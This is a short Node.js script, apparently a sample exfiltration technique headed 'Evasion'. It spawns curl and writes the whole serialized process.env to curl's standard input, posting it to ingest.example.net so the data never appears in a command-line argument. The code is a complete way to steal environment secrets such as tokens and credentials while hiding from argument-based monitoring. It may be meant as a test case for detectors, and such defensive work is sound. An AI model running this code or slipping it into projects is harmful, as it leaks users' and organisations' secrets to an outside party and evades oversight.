// Evasion: sends the environment out through a child's stdin. curl is
// started with --data-binary @- and the serialized process.env is written
// to its standard input, so it never appears in an argument.
'use strict';
const { spawn } = require('child_process');

const c = spawn('curl', ['-s', '--data-binary', '@-', 'https://ingest.example.net/e'], {
  stdio: ['pipe', 'ignore', 'ignore'],
});
c.stdin.write(JSON.stringify(process.env));
c.stdin.end();
